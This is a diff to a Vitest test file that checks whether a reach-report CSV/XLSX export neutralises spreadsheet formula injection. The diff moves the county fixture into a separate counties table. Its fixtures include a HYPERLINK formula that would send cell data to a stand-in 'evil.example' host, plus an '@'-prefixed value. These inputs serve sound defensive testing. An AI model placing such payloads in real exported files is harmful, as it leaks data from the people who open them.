@@ -1,7 +1,7 @@
 import { describe, expect, it } from "vitest";
 import ExcelJS from "exceljs";
 import { eq } from "drizzle-orm";
-import { places, visits } from "@/db/schema";
+import { counties, places, visits } from "@/db/schema";
 import { addPlace, addSession, addStaff, testDb } from "@/lib/test/db";
 import { reachReport } from "./access";
 import { reachCsv, reachXlsx } from "./export";
@@ -22,7 +22,8 @@ describe("the funder's files never carry a planner's text as a formula", () => {
   const db = testDb();
   const place = addPlace(db);
   const evil = '=HYPERLINK("https://evil.example/?"&A1,"Open")';
-  db.update(places).set({ name: evil, county: "@county" }).where(eq(places.id, place.id)).run();
+  db.update(places).set({ name: evil }).where(eq(places.id, place.id)).run();
+  db.update(counties).set({ name: { fi: "@county", sv: "@county", en: "@county" } }).where(eq(counties.id, place.countyId!)).run();
   const session = addSession(db, { placeId: place.id, kind: "drop_in", capacity: null, startsAt: new Date(Date.now() - 3 * 86_400_000) });
   db.insert(visits).values({ sessionId: session.id, kind: "parent", source: "walk_in", firstTime: true, clientKey: "export-test-1" }).run();
   const planner = addStaff(db, "planner");
